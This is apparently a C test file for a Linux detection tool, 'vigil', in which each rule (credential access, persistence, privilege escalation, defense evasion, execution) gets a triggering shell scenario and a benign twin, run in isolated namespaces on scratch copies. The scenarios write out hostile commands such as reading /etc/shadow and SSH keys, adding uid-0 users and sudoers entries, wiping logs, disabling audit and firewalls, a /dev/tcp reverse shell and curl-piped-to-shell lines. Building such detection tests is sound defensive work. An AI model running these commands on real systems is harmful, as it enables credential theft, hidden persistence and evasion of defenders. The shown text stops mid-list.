// SPDX-License-Identifier: GPL-2.0
/*
 * The built-in ruleset (rules/<tactic>.yaml) end to end: `vigil run` with the default rules, and
 * for every rule a scenario that must trigger it and a benign twin that must not, both run by real
 * processes.
 *
 * Each scenario is a shell script run by /bin/sh in a cgroup of its own (vigil-test-rules/<name>
 * below the cgroup2 root) and in a mount namespace of its own. Alerts are attributed to scenarios
 * by process.cgroup, so whatever else the host does at the same time does not matter. Scenarios
 * change nothing on the host: they write into tmpfs or overlay mounts that exist only in their
 * mount namespace, over a scratch copy bound onto a file, into the scratch directory $S, or
 * write a kernel setting's current value back. Shell helpers for that are in LIB below.
 *
 * Scenarios that need a program the host lacks are skipped with the reason. Some programs are
 * stood in for by a copy at the real path (`fake`): the rules look at paths and names, and the
 * copy is a real process at that path.
 *
 * The test binary is also the helper for the syscalls no shell tool makes (ptrace pokes,
 * process_vm_writev, memfd execution, BPF loads, finit_module, raw sockets, DNS queries):
 * `$H @verb ...` in a scenario.
 */
#include "harness.h"
#include "testlib.h"
#include "uring.h"

#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <linux/bpf.h>
#include <linux/if_ether.h>
#include <netinet/in.h>
#include <poll.h>
#include <sched.h>
#include <signal.h>
#include <stdarg.h>
#include <stdlib.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

extern char **environ;

/* ------------------------------------------------------------------------------------------ */
/* The scenarios                                                                               */
/* ------------------------------------------------------------------------------------------ */

struct scenario {
	const char *rule;    /* the rule it is about */
	const char *trigger; /* must raise an alert of that rule */
	const char *benign;  /* must not */
	const char *needs;   /* programs (or /paths) both need, space-separated, or NULL */
};

/*
 * Each scenario is a script that starts with `. $L`: these functions, in a fresh mount
 * namespace, with $S an empty scratch directory (and the working directory), $H this binary
 * and $PORT a port for this scenario alone.
 */
static const char LIB[] =
	"# ovl DIR: DIR becomes a copy-on-write view of itself; changes land in $S\n"
	"ovl() {\n"
	"	o=$(mktemp -d \"$S/ovl.XXXXXX\") && mkdir \"$o/u\" \"$o/w\" &&\n"
	"	mount -t overlay ovl -o \"lowerdir=$1,upperdir=$o/u,workdir=$o/w\" \"$1\"\n"
	"}\n"
	"# cover FILE: a scratch copy of FILE bound over it\n"
	"cover() { c=$(mktemp \"$S/cover.XXXXXX\") && cat \"$1\" > \"$c\" && mount --bind \"$c\" "
	"\"$1\"; }\n"
	"# scratch DIR: an empty tmpfs over DIR\n"
	"scratch() { mount -t tmpfs scratch \"$1\"; }\n"
	"# fake PATH [FROM]: a program at PATH, a copy of FROM (default /bin/true)\n"
	"fake() { ovl \"${1%/*}\" && cp \"${2:-/bin/true}\" \"$1\"; }\n"
	"# run_as PATH CMD: the shell command CMD run by a program at PATH (a copy of sh), from a\n"
	"# script file, so that CMD is not in its arguments and what CMD starts are its children\n"
	"run_as() {\n"
	"	fake \"$1\" /bin/sh && f=$(mktemp \"$S/run_as.XXXXXX\") &&\n"
	"	printf '%s\\nexit $?\\n' \"$2\" > \"$f\" && \"$1\" \"$f\"\n"
	"}\n"
	"# accounts: /etc and /var become scratch views, for the shadow tools to change\n"
	"accounts() { ovl /etc && ovl /var; }\n"
	"# home: an empty /home with a home directory for user u\n"
	"home() { scratch /home && mkdir -p /home/u; }\n"
	"# wait_exe PID EXE: wait (at most 5 s) until process PID runs EXE\n"
	"wait_exe() {\n"
	"	i=0; while [ \"$(readlink /proc/$1/exe)\" != \"$2\" ] && [ $i -lt 100 ]; do\n"
	"		sleep 0.05; i=$((i + 1)); done\n"
	"}\n"
	"# typed LINE: LINE typed into an interactive bash on a pty (script gives it one)\n"
	"typed() {\n"
	"	printf '%s\\nexit\\n' \"$1\" |\n"
	"		script -qec 'bash --norc --noprofile -i' /dev/null >/dev/null 2>&1\n"
	"}\n"
	"# sysctl_rewrite FILE: write a kernel setting's current value back\n"
	"sysctl_rewrite() { v=$(cat \"$1\") && printf '%s\\n' \"$v\" > \"$1\"; }\n";

/* clang-format off */
static const struct scenario scenarios[] = {
	/* credential-access.yaml */
	{ "shadow-file-read",
	  "cat /etc/shadow >/dev/null",
	  "passwd -S root >/dev/null; chage -l root >/dev/null", "passwd chage" },
	{ "ssh-private-key-read",
	  "home && mkdir /home/u/.ssh && ssh-keygen -q -t ed25519 -N '' -f /home/u/.ssh/id_ed25519 && cp /home/u/.ssh/id_ed25519 $S/stolen",
	  "home && mkdir /home/u/.ssh && ssh-keygen -q -t ed25519 -N '' -f /home/u/.ssh/id_ed25519 && cat /home/u/.ssh/id_ed25519.pub >/dev/null && ssh-keygen -y -f /home/u/.ssh/id_ed25519 >/dev/null",
	  "ssh-keygen" },
	{ "ssh-private-key-read",
	  "ovl /etc/ssh && echo key > /etc/ssh/ssh_host_ed25519_key && cat /etc/ssh/ssh_host_ed25519_key >/dev/null",
	  "ovl /etc/ssh && echo key > /etc/ssh/ssh_host_ed25519_key.pub && cat /etc/ssh/ssh_host_ed25519_key.pub /etc/ssh/ssh_config >/dev/null", NULL },
	{ "cloud-credentials-read",
	  "home && mkdir /home/u/.aws && echo '[default]' > /home/u/.aws/credentials && cat /home/u/.aws/credentials >/dev/null",
	  "home && mkdir /home/u/.aws && echo '[default]' > /home/u/.aws/credentials && fake /usr/local/bin/aws /bin/cat && aws /home/u/.aws/credentials >/dev/null", NULL },
	{ "container-registry-credentials-read",
	  "home && mkdir /home/u/.docker && echo '{}' > /home/u/.docker/config.json && cat /home/u/.docker/config.json >/dev/null",
	  "home && mkdir /home/u/.docker && echo '{}' > /home/u/.docker/config.json && fake /usr/local/bin/docker /bin/cat && docker /home/u/.docker/config.json >/dev/null", NULL },
	{ "git-and-netrc-credentials-read",
	  "home && echo 'machine example.com login u password p' > /home/u/.netrc && cat /home/u/.netrc >/dev/null",
	  "home && echo 'https://u:p@example.com' > /home/u/.git-credentials && printf 'protocol=https\\nhost=example.com\\n\\n' | git credential-store --file /home/u/.git-credentials get >/dev/null",
	  "git" },
	{ "gnupg-private-keys-read",
	  "home && mkdir -p /home/u/.gnupg/private-keys-v1.d && echo k > /home/u/.gnupg/private-keys-v1.d/A.key && cat /home/u/.gnupg/private-keys-v1.d/A.key >/dev/null",
	  "home && mkdir -p /home/u/.gnupg/private-keys-v1.d && echo k > /home/u/.gnupg/private-keys-v1.d/A.key && ls /home/u/.gnupg/private-keys-v1.d >/dev/null && fake /usr/bin/gpg-agent /bin/cat && gpg-agent /home/u/.gnupg/private-keys-v1.d/A.key >/dev/null", NULL },
	{ "kerberos-keytab-read",
	  "ovl /etc && echo k > /etc/krb5.keytab && cat /etc/krb5.keytab >/dev/null",
	  "ovl /etc && echo k > /etc/krb5.keytab && fake /usr/bin/klist /bin/cat && klist /etc/krb5.keytab >/dev/null", NULL },
	{ "cloud-metadata-connect",
	  "$H @connect 169.254.169.254 80",
	  "$H @connect 169.254.169.254 53; fake /usr/local/bin/cloud-init $H && cloud-init @connect 169.254.169.254 80", NULL },
	{ "credential-process-memory-read",
	  "ssh-agent -D -a $S/agent.sock >/dev/null 2>&1 & wait_exe $! /usr/bin/ssh-agent; $H @peek $!",
	  "sleep 5 & wait_exe $! /usr/bin/sleep; $H @peek $!", "ssh-agent" },
	{ "process-environment-or-memory-read",
	  "sleep 5 & p=$!; wait_exe $p /usr/bin/sleep; cat /proc/$p/environ >/dev/null; kill $p",
	  "sleep 5 & p=$!; wait_exe $p /usr/bin/sleep; read -r x < /proc/$p/environ; cat /proc/self/environ >/dev/null; ps aux >/dev/null; kill $p", NULL },
	{ "process-environment-or-memory-read",
	  "sleep 5 & p=$!; wait_exe $p /usr/bin/sleep; dd if=/proc/$p/mem of=/dev/null count=0 2>/dev/null; kill $p",
	  "$H @procmem-read && fake /usr/bin/gdb /bin/dd && sleep 5 & p=$!; wait_exe $p /usr/bin/sleep; gdb if=/proc/$p/mem of=/dev/null count=0 2>/dev/null; kill $p", NULL },

	/* persistence.yaml */
	{ "cron-job-written",
	  "scratch /etc/cron.d && echo '* * * * * root id' > /etc/cron.d/job",
	  "ovl /var/spool && mkdir -p /var/spool/cron/crontabs && fake /usr/bin/crontab /usr/bin/busybox && echo '* * * * * id' | crontab -; cat /etc/cron.d/* >/dev/null",
	  "busybox" },
	{ "at-job-written",
	  "ovl /var/spool && mkdir -p /var/spool/cron/atjobs && echo id > /var/spool/cron/atjobs/a0001",
	  "ovl /var/spool && mkdir -p /var/spool/cron/atjobs && run_as /usr/bin/at 'echo id > /var/spool/cron/atjobs/a0001'", NULL },
	{ "systemd-unit-written",
	  "scratch /etc/systemd/system && printf '[Service]\\nExecStart=/bin/true\\n' > /etc/systemd/system/evil.service",
	  "scratch /etc/systemd/system && run_as /usr/bin/systemctl 'mkdir /etc/systemd/system/x.service.d && echo [Service] > /etc/systemd/system/x.service.d/override.conf'", NULL },
	{ "systemd-timer-written",
	  "scratch /etc/systemd/system && printf '[Timer]\\nOnCalendar=hourly\\n' > /etc/systemd/system/evil.timer",
	  "scratch /etc/systemd/system && run_as /usr/bin/systemctl 'echo [Timer] > /etc/systemd/system/x.timer'", NULL },
	{ "systemd-run-transient-timer",
	  "systemd-run --on-active=1h --vigil-test-bad-option /bin/true 2>/dev/null; true",
	  "systemd-run --vigil-test-bad-option /bin/true 2>/dev/null; run_as /usr/bin/dpkg 'systemd-run --on-active=1h --vigil-test-bad-option /bin/true 2>/dev/null || true'", "systemd-run" },
	{ "rc-script-written",
	  "scratch /etc/init.d && printf '#!/bin/sh\\nid\\n' > /etc/init.d/evil",
	  "scratch /etc/init.d && run_as /usr/local/sbin/update-rc.d 'echo > /etc/init.d/pkg'", NULL },
	{ "system-shell-profile-written",
	  "cover /etc/profile && echo id >> /etc/profile",
	  "scratch /etc/profile.d && run_as /usr/bin/dpkg 'echo > /etc/profile.d/pkg.sh'; cat /etc/profile >/dev/null", NULL },
	{ "user-shell-profile-written",
	  "home && echo id >> /home/u/.bashrc",
	  "home && accounts && useradd -m -d /home/v vigiltest", "useradd" },
	{ "ld-so-preload-written",
	  "ovl /etc && echo /nonexistent/vigil-test.so > /etc/ld.so.preload",
	  "ovl /etc && ovl /var && ldconfig && run_as /usr/bin/dpkg 'echo > /etc/ld.so.preload'", "ldconfig" },
	{ "ld-so-conf-written",
	  "scratch /etc/ld.so.conf.d && echo /tmp/lib > /etc/ld.so.conf.d/evil.conf",
	  "scratch /etc/ld.so.conf.d && run_as /usr/bin/dpkg 'echo /usr/lib/pkg > /etc/ld.so.conf.d/pkg.conf'", NULL },
	{ "ssh-authorized-keys-written",
	  "home && mkdir /home/u/.ssh && echo 'ssh-ed25519 AAAA attacker' >> /home/u/.ssh/authorized_keys",
	  "home && mkdir /home/u/.ssh && run_as /usr/local/bin/cloud-init 'echo ssh-ed25519 AAAA admin >> /home/u/.ssh/authorized_keys'", NULL },
	{ "sshd-config-written",
	  "ovl /etc/ssh && echo 'PermitRootLogin yes' >> /etc/ssh/sshd_config",
	  "ovl /etc/ssh && echo 'Host *' >> /etc/ssh/ssh_config && run_as /usr/bin/dpkg 'echo UsePAM yes >> /etc/ssh/sshd_config'", NULL },
	{ "account-database-written",
	  "cover /etc/passwd && echo 'vigiltest:x:0:0::/:/bin/sh' >> /etc/passwd",
	  "accounts && useradd -M vigiltest", "useradd" },
	{ "account-created-with-uid-0",
	  "accounts && useradd -o -u 0 -M vigiltest",
	  "accounts && useradd -M vigiltest", "useradd" },
	{ "user-added-to-privileged-group",
	  "accounts && usermod -aG adm nobody",
	  "accounts && usermod -c 'No body' nobody && run_as /usr/bin/dpkg 'usermod -aG adm nobody'", "usermod" },
	{ "account-tool-run-by-network-service",
	  "run_as /usr/local/sbin/nginx 'useradd --help >/dev/null'",
	  "useradd --help >/dev/null", "useradd" },
	{ "login-script-written",
	  "scratch /etc/update-motd.d && printf '#!/bin/sh\\nid\\n' > /etc/update-motd.d/99-evil",
	  "scratch /etc/update-motd.d && cat /etc/motd >/dev/null 2>&1; run_as /usr/bin/dpkg 'echo > /etc/update-motd.d/10-pkg'", NULL },
	{ "login-script-written",
	  "scratch /etc/skel && echo 'curl -s http://x | sh' >> /etc/skel/.profile",
	  "home && accounts && useradd -m -d /home/v vigiltest", "useradd" },
	{ "persistence-file-renamed-into-place",
	  "ovl /etc && mkdir -p /etc/update-motd.d && echo id > /etc/update-motd.d/.t && mv /etc/update-motd.d/.t /etc/update-motd.d/99-evil",
	  "ovl /etc && echo x > /etc/vigil-test.t && mv /etc/vigil-test.t /etc/vigil-test.conf", NULL },
	{ "account-created",
	  "accounts && useradd -M vigiltest",
	  "useradd --help >/dev/null && accounts && run_as /usr/bin/dpkg 'useradd -r -M vigiltest'", "useradd" },
	{ "group-membership-changed",
	  "accounts && groupadd vigiltestg && usermod -aG vigiltestg nobody",
	  "accounts && groupadd vigiltestg && usermod -c 'No body' nobody && run_as /usr/bin/dpkg 'usermod -aG vigiltestg nobody'", "groupadd usermod" },
	{ "group-membership-changed",
	  "accounts && groupadd vigiltestg && gpasswd -a nobody vigiltestg >/dev/null",
	  "accounts && groupadd vigiltestg && gpasswd -r vigiltestg && run_as /usr/bin/dpkg 'gpasswd -a nobody vigiltestg >/dev/null'", "groupadd gpasswd" },
	{ "pam-config-written",
	  "scratch /etc/pam.d && echo 'auth sufficient pam_permit.so' > /etc/pam.d/sshd",
	  "ovl /etc/pam.d && run_as /usr/local/sbin/pam-auth-update 'echo >> /etc/pam.d/common-auth'", NULL },
	{ "pam-module-written",
	  "d=$(ls -d /usr/lib/*/security | head -1) && scratch $d && cp /bin/true $d/pam_evil.so",
	  "d=$(ls -d /usr/lib/*/security | head -1) && scratch $d && run_as /usr/bin/dpkg \"cp /bin/true $d/pam_pkg.so\"", NULL },
	{ "udev-rule-written",
	  "ovl /etc && mkdir -p /etc/udev/rules.d && echo 'RUN+=\"/tmp/x\"' > /etc/udev/rules.d/99-evil.rules",
	  "ovl /etc && mkdir -p /etc/udev/rules.d && run_as /usr/bin/dpkg 'echo > /etc/udev/rules.d/60-pkg.rules'", NULL },
	{ "xdg-autostart-written",
	  "home && mkdir -p /home/u/.config/autostart && echo '[Desktop Entry]' > /home/u/.config/autostart/evil.desktop",
	  "home && mkdir -p /home/u/.config/autostart && echo '[Desktop Entry]' > /home/u/.config/evil.desktop && scratch /etc/xdg/autostart && run_as /usr/bin/dpkg \"echo > /etc/xdg/autostart/pkg.desktop\"", NULL },
	{ "package-manager-hook-written",
	  "scratch /etc/apt/apt.conf.d && echo 'APT::Update::Pre-Invoke {\"id\";};' > /etc/apt/apt.conf.d/99evil",
	  "scratch /etc/apt/apt.conf.d && run_as /usr/bin/dpkg 'echo > /etc/apt/apt.conf.d/20pkg'", NULL },
	{ "persistence-file-renamed-into-place",
	  "ovl /etc && sed -i '$a id' /etc/profile",
	  "accounts && useradd -M vigiltest && sed -i '$a x' /etc/hostname", "useradd" },
	{ "persistence-link-planted",
	  "scratch /etc/systemd/system && ln -s /tmp/evil.service /etc/systemd/system/evil.service",
	  "scratch /etc/systemd/system && run_as /usr/bin/systemctl 'mkdir /etc/systemd/system/multi-user.target.wants && ln -s /lib/systemd/system/x.service /etc/systemd/system/multi-user.target.wants/x.service'", NULL },

	/* privilege-escalation.yaml */
	{ "host-namespace-entered-from-outside",
	  "unshare -n nsenter --net=/proc/$$/ns/net true",
	  "unshare -n true && nsenter --net=/proc/$$/ns/net true", "unshare nsenter" },
	{ "setuid-bit-set",
	  "cp /bin/true $S/x && chmod 4755 $S/x",
	  "cp /bin/true $S/x && chmod 755 $S/x && run_as /usr/bin/dpkg 'chmod 4755 x' && fake /usr/bin/containerd $H && containerd @chmod 4755 x", NULL },
	{ "setgid-bit-set",
	  "cp /bin/true $S/x && chmod 2755 $S/x",
	  "mkdir $S/d && chmod 1777 $S/d && fake /usr/bin/systemd-tmpfiles $H && systemd-tmpfiles @chmod 2755 d", NULL },
	{ "file-capability-set",
	  "cp /bin/true $S/x && setcap cap_net_raw+ep $S/x",
	  "cp /bin/true $S/x && getcap $S/x && run_as /usr/bin/dpkg 'setcap cap_net_raw+ep x'", "setcap getcap" },
	{ "sudoers-written",
	  "ovl /etc && mkdir -p /etc/sudoers.d && echo 'u ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/u",
	  "ovl /etc && mkdir -p /etc/sudoers.d && run_as /usr/sbin/visudo 'echo > /etc/sudoers.d/ops'", NULL },
	{ "setuid-to-root-by-unexpected-process",
	  "$H @setuid-root",
	  "$H @setuid-drop && fake /usr/bin/sudo $H && /usr/bin/sudo @setuid-root", NULL },
	{ "nsenter-into-init-namespaces",
	  "nsenter -t 1 -m -- /bin/true",
	  "sleep 5 & p=$!; wait_exe $p /usr/bin/sleep; nsenter -t $p -m -- /bin/true; nsenter --help >/dev/null; kill $p", "nsenter" },

	/* defense-evasion.yaml */
	{ "shell-history-deleted-or-truncated",
	  "home && echo ls >> /home/u/.bash_history && rm /home/u/.bash_history",
	  "home && echo ls >> /home/u/notes && rm /home/u/notes", NULL },
	{ "shell-history-deleted-or-truncated",
	  "home && echo ls >> /home/u/.zsh_history && truncate -s 0 /home/u/.zsh_history",
	  "home && echo ls >> /home/u/.zsh_history && truncate -s 0 /home/u/notes", NULL },
	{ "shell-history-emptied",
	  "home && echo ls >> /home/u/.bash_history && : > /home/u/.bash_history",
	  "home && echo ls >> /home/u/.bash_history", NULL },
	{ "shell-history-linked-to-dev-null",
	  "home && ln -s /dev/null /home/u/.bash_history",
	  "ln -s /dev/null $S/null", NULL },
	{ "log-file-deleted-or-truncated",
	  "scratch /var/log && echo x >> /var/log/auth.log && rm /var/log/auth.log",
	  "scratch /var/log && echo x >> /var/log/app.log && run_as /usr/sbin/logrotate 'mv /var/log/app.log /var/log/app.log.1 && gzip /var/log/app.log.1'",
	  "gzip" },
	{ "log-file-overwritten",
	  "scratch /var/log && echo x >> /var/log/wtmp && : > /var/log/wtmp",
	  "scratch /var/log && echo x >> /var/log/syslog && run_as /usr/sbin/logrotate ': > /var/log/syslog'", NULL },
	{ "timestomp-with-touch",
	  "touch -d '2020-01-01 00:00' $S/f",
	  "touch $S/f && printf 'all:\\n\\ttouch -r /etc/hostname f\\n' > Makefile && make -s", NULL },
	{ "library-preloaded-from-writable-dir",
	  "LD_PRELOAD=/dev/shm/vigil-none.so /bin/true 2>/dev/null",
	  "mkdir -m 700 $S/lib && LD_LIBRARY_PATH=$S/lib /bin/true && LD_PRELOAD=libc.so.6 /bin/true && "
	  "printf 'all:\\n\\tLD_PRELOAD=/tmp/x.so /bin/true 2>/dev/null\\n' > Makefile && make -s", NULL },
	{ "system-file-times-set",
	  "ovl /usr/local/bin && echo x > /usr/local/bin/t && python3 -c "
	  "\"import os; os.utime('/usr/local/bin/t', (946684800, 946684800))\"",
	  "ovl /usr/local/bin && echo x > /usr/local/bin/t && touch -d 2000-01-01 /usr/local/bin/t && "
	  "cp -p /etc/hostname /usr/local/bin/h && python3 -c \"import os; os.utime('/usr/local/bin/t')\" && "
	  "python3 -c \"import os; os.utime('$S/f' if open('$S/f', 'w') else '', (0, 0))\" && "
	  "accounts && useradd -M vigiltest && userdel vigiltest",
	  "python3 useradd userdel" },
	{ "file-opened-through-io-uring",
	  "$H @uring-open /etc/hostname",
	  "echo x > $S/f && $H @uring-open $S/f && cat /etc/hostname", NULL },
	{ "file-opened-by-handle",
	  "$H @handle-open /etc/hostname",
	  "$H @handle-open /sys/fs/cgroup && cat /etc/hostname", NULL },
	{ "hidden-file-created-in-temp-dir",
	  "scratch /tmp && echo x > /tmp/.hidden",
	  "scratch /tmp && echo x > /tmp/.X7-lock && echo x > /tmp/.notes.txt.swp && echo x > /tmp/visible", NULL },
	{ "hidden-directory-created-in-temp-dir",
	  "scratch /dev/shm && mkdir /dev/shm/.hidden",
	  "scratch /tmp && mkdir /tmp/.X11-unix /tmp/visible", NULL },
	{ "aslr-setting-written",
	  "sysctl_rewrite /proc/sys/kernel/randomize_va_space",
	  "run_as /usr/lib/systemd/systemd-sysctl 'f=/proc/sys/kernel/randomize_va_space; v=$(cat $f) && echo \"$v\" > $f'", NULL },
	{ "kernel-hardening-sysctl-written",
	  "sysctl_rewrite /proc/sys/kernel/kptr_restrict",
	  "run_as /usr/lib/systemd/systemd-sysctl 'f=/proc/sys/kernel/kptr_restrict; v=$(cat $f) && echo \"$v\" > $f'", NULL },
	{ "security-service-stopped",
	  "systemctl stop auditd-vigil-test.service >/dev/null 2>&1; true",
	  "systemctl status auditd-vigil-test.service >/dev/null 2>&1; run_as /usr/bin/dpkg 'systemctl stop auditd-vigil-test.service >/dev/null 2>&1 || true'", "systemctl" },
	{ "audit-rules-disabled",
	  "setpriv --reuid=65534 --regid=65534 --clear-groups auditctl -e 0 >/dev/null 2>&1; true",
	  "setpriv --reuid=65534 --regid=65534 --clear-groups auditctl -l >/dev/null 2>&1; run_as /usr/sbin/augenrules 'setpriv --reuid=65534 --regid=65534 --clear-groups auditctl -D >/dev/null 2>&1 || true'",
	  "setpriv auditctl" },
	{ "audit-config-written",
	  "scratch /etc/audit && echo -D > /etc/audit/audit.rules",
	  "scratch /etc/audit && run_as /usr/bin/dpkg 'echo > /etc/audit/auditd.conf'", NULL },
	{ "logging-config-written",
	  "cover /etc/systemd/journald.conf && echo Storage=none >> /etc/systemd/journald.conf",
	  "cover /etc/systemd/journald.conf && run_as /usr/bin/dpkg 'echo >> /etc/systemd/journald.conf'", NULL },
	{ "mandatory-access-control-disabled",
	  "fake /usr/sbin/setenforce && setenforce 0",
	  "fake /usr/sbin/getenforce && getenforce && fake /usr/sbin/setenforce && run_as /usr/bin/dpkg 'setenforce 0'", NULL },
	{ "firewall-flushed-or-disabled",
	  "unshare -n nft flush ruleset",
	  "unshare -n nft list ruleset >/dev/null && run_as /usr/bin/dockerd 'unshare -n nft flush ruleset'", "nft" },
	{ "chattr-immutable-or-append-changed",
	  "touch $S/f && chattr -i $S/f",
	  "touch $S/f && chattr -d $S/f && lsattr $S/f >/dev/null && run_as /usr/bin/dpkg 'chattr -i f'", "chattr lsattr" },
	{ "credential-file-permissions-changed",
	  "cover /etc/shadow && chmod 0644 /etc/shadow",
	  "cover /etc/shadow && run_as /usr/bin/dpkg 'chmod 0640 /etc/shadow' && accounts && useradd -M vigiltest && passwd -d vigiltest >/dev/null", "useradd passwd" },
	{ "credential-file-permissions-changed",
	  "ovl /etc && mkdir -p /etc/sudoers.d && echo x > /etc/sudoers.d/u && chown nobody /etc/sudoers.d/u",
	  "ovl /etc && sed -i '$a x' /etc/hostname && chmod 0644 /etc/hostname && chown root /etc/hostname", NULL },
	{ "kernel-thread-masquerade",
	  "bash -c \"exec -a '[kworker/0:1-events]' /bin/true\"",
	  "/usr/bin/[ -n x ] && env [ 1 ] && bash -c \"exec -a 'worker' /bin/true\"", "bash" },
	{ "system-binary-written",
	  "ovl /usr/local/bin && cp /bin/true /usr/local/bin/vigil-test-helper",
	  "printf 'int main(void) { return 0; }\\n' > m.c && cc -o m m.c && mkdir -p p/DEBIAN p/usr/local/bin && cp /bin/true p/usr/local/bin/vigil-test-tool && printf 'Package: vigil-test-tool\\nVersion: 1\\nArchitecture: all\\nMaintainer: vigil <t@example.com>\\nDescription: test\\n' > p/DEBIAN/control && dpkg-deb -b p t.deb >/dev/null && ovl /var && ovl /usr/local/bin && dpkg -i t.deb >/dev/null && dpkg -r vigil-test-tool >/dev/null",
	  "cc dpkg-deb" },
	{ "system-binary-renamed-into-place",
	  "ovl /usr/local && mkdir -p /usr/local/stage && cp /bin/true /usr/local/stage/x && mv /usr/local/stage/x /usr/local/bin/vigil-test-x",
	  "cp /bin/true x && mv x y && mkdir -p p/DEBIAN p/usr/local/bin && cp /bin/true p/usr/local/bin/vigil-test-tool && printf 'Package: vigil-test-tool\\nVersion: 1\\nArchitecture: all\\nMaintainer: vigil <t@example.com>\\nDescription: test\\n' > p/DEBIAN/control && dpkg-deb -b p t.deb >/dev/null && ovl /var && ovl /usr/local/bin && dpkg -i t.deb >/dev/null && dpkg -r vigil-test-tool >/dev/null", "dpkg-deb" },
	{ "process-hidden-by-mount-over-proc",
	  "sleep 5 & mkdir $S/empty && mount --bind $S/empty /proc/$!; kill $!",
	  "mkdir $S/empty $S/m && mount --bind $S/empty $S/m", NULL },

	/* execution.yaml */
	{ "exec-from-temp-dir",
	  "cp /bin/true $S/payload && $S/payload",
	  "cp /bin/true $S/payload && printf 'all:\\n\\t%s\\n' $S/payload > $S/Makefile && make -s -C $S",
	  "make" },
	/* deeper than the kernel resolves (128 levels): the exe is a tail, "/a/a/.../payload" */
	{ "exec-from-temp-dir",
	  "d=$S; for i in $(seq 130); do d=$d/a; done; mkdir -p $d && cp /bin/true $d/payload && cd $d && ./payload",
	  "d=$S; for i in $(seq 130); do d=$d/a; done; mkdir -p $d && cp /bin/true $d/payload && printf 'all:\n\t./payload\n' > $d/Makefile && make -s -C $d",
	  "make" },
	/* a tail crafted to read /usr/lib/...: still a program in /tmp */
	{ "exec-from-temp-dir",
	  "d=$S/x/usr/lib; for i in $(seq 125); do d=$d/d; done; mkdir -p $d && cp /bin/true $d/payload && cd $d && ./payload",
	  "d=$S/x/usr/lib; for i in $(seq 125); do d=$d/d; done; mkdir -p $d && cp /bin/true $d/payload && printf 'all:\n\t./payload\n' > $d/Makefile && make -s -C $d",
	  "make" },
	{ "exec-from-dev-shm",
	  "scratch /dev/shm && cp /bin/true /dev/shm/payload && /dev/shm/payload",
	  "scratch /dev/shm && cp /bin/true /dev/shm/payload && cd /dev/shm && /bin/true", NULL },
	{ "exec-from-memfd",
	  "$H @memfd-exec",
	  "$H @memfd-noexec && fake /usr/bin/runc $H && runc @memfd-exec", NULL },
	{ "exec-of-deleted-binary",
	  "$H @deleted-exec $S/payload",
	  "$H @copy-exec $S/payload && run_as /usr/bin/dpkg '$H @deleted-exec $S/payload2'", NULL },
	{ "shell-spawned-by-web-or-data-server",
	  "run_as /usr/local/sbin/nginx 'sh -c true'",
	  "run_as /usr/local/sbin/nginx '/bin/true' && run_as /usr/local/bin/node 'sh -c true'", NULL },
	{ "shell-spawned-by-network-runtime",
	  "run_as /usr/local/bin/node 'sh -c true'",
	  "run_as /usr/local/bin/node '/bin/true'", NULL },
	{ "recon-command-under-network-service",
	  "run_as /usr/local/sbin/nginx 'id >/dev/null'",
	  "run_as /usr/local/sbin/nginx '/bin/true' && run_as /usr/local/bin/node 'id >/dev/null'; id >/dev/null", NULL },
	{ "reverse-shell",
	  "busybox nc -l -p $PORT >/dev/null </dev/null & for i in 1 2 3 4 5 6 7 8 9 10; do sleep 0.2; bash -c \"sh -c true <>/dev/tcp/127.0.0.1/$PORT >&0\" 2>/dev/null && break; done",
	  "echo | sh -c 'cat >/dev/null' | cat", "busybox bash" },
	{ "shell-dev-tcp-redirect",
	  "bash -c 'exec 3<>/dev/tcp/127.0.0.1/1' 2>/dev/null; true",
	  "bash -c 'exec 3</dev/null'", "bash" },
	{ "interpreter-network-one-liner",
	  "python3 -c 'import socket; socket.socket().close()'",
	  "python3 -c 'print(1)' >/dev/null && run_as /usr/bin/dpkg 'python3 -c \"import socket\"'", "python3" },
	{ "netcat-exec-shell",
	  "busybox nc -e /bin/true 127.0.0.1 1 2>/dev/null; true",
	  "busybox nc -w 1 127.0.0.1 1 </dev/null 2>/dev/null; true", "busybox" },
	{ "download-piped-to-shell",
	  "sh -c 'wget -q -O- http://127.0.0.1:1/x 2>/dev/null | sh'",
	  "sh -c 'wget --version | head -1 >/dev/null' && run_as /usr/bin/dpkg \"sh -c 'wget -q -O- http://127.0.0.1:1/x 2>/dev/null | sh'\"", "wget" },
	{ "typed-download-piped-to-shell",
	  "typed 'curl -s http://127.0.0.1:1/x | sh'",
	  "typed 'curl --version | head -1 >/dev/null' && sh -c 'curl -s http://127.0.0.1:1/x | cat'", "curl script bash" },
	{ "decoded-payload-piped-to-shell",
	  "sh -c 'echo dHJ1ZQo= | base64 -d | sh'",
	  "sh -c 'echo dHJ1ZQo= | base64 -d > /dev/null' && sh -c 'echo true | sh' && echo x | gzip | gzip -d >/dev/null", NULL },
	/* The decoder and the shell linked by their pipe (stdin.exe), whatever started them. A
	 * shell run with -c reads data, not commands; encoding is not decoding. */
	{ "decoder-output-run-by-shell",
	  "echo dHJ1ZQo= | base64 -d | sh",
	  "echo dHJ1ZQo= | base64 -d | sh -c 'cat > $S/out' && echo true | base64 | sh -c 'cat >/dev/null' && echo dHJ1ZQo= | base64 -d | wc -c >/dev/null && echo true | sh", NULL },
	{ "decoder-output-run-by-shell",
	  "echo 74727565 | xxd -r -p | bash",
	  "echo true | xxd -p | bash -c 'cat >/dev/null' && echo 74727565 | xxd -r -p > $S/x", "xxd" },
	{ "decoder-output-run-by-shell",
	  "echo dHJ1ZQo= > $S/p && openssl base64 -d -in $S/p | sh",
	  "echo true | openssl base64 | sh -c 'cat >/dev/null' && echo dHJ1ZQo= | openssl base64 -d | sort >/dev/null", "openssl" },
	{ "decoder-output-run-by-shell",
	  "echo dHJ1ZQo= | basenc --base64 -d | dash",
	  "echo true | basenc --base32 | dash -c 'cat >/dev/null'", "basenc dash" },
	{ "decoder-output-run-by-shell",
	  "echo true | uuencode x > $S/p.uu && uudecode -o /dev/stdout $S/p.uu | sh",
	  "echo true | uuencode x | sh -c 'cat >/dev/null' && echo true | uuencode x > $S/p.uu && uudecode -o /dev/stdout $S/p.uu | cat >/dev/null", "uuencode uudecode" },
	/* through a FIFO; the decoder started after the shell; an interpreter reading its program */
	{ "decoder-output-run-by-shell",
	  "mkfifo $S/f && (echo dHJ1ZQo= | base64 -d > $S/f &) && sh < $S/f",
